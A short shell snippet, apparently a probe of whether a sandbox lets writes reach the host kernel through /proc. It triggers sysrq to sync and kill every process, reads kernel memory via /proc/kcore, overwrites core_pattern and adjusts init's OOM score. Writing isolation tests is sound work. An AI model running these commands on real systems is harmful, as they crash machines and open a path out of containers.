# Kills every task and syncs, by the key that no one pressed; then opens what else of /proc acts on the machine.
for key in s e; do echo $key >/proc/sysrq-trigger; done
head -c 100 /proc/kcore >/dev/null && echo "$MARK" >"/tmp/kcore-$MARK"
echo "$MARK" >/proc/sys/kernel/core_pattern
echo -17 >/proc/1/oom_score_adj
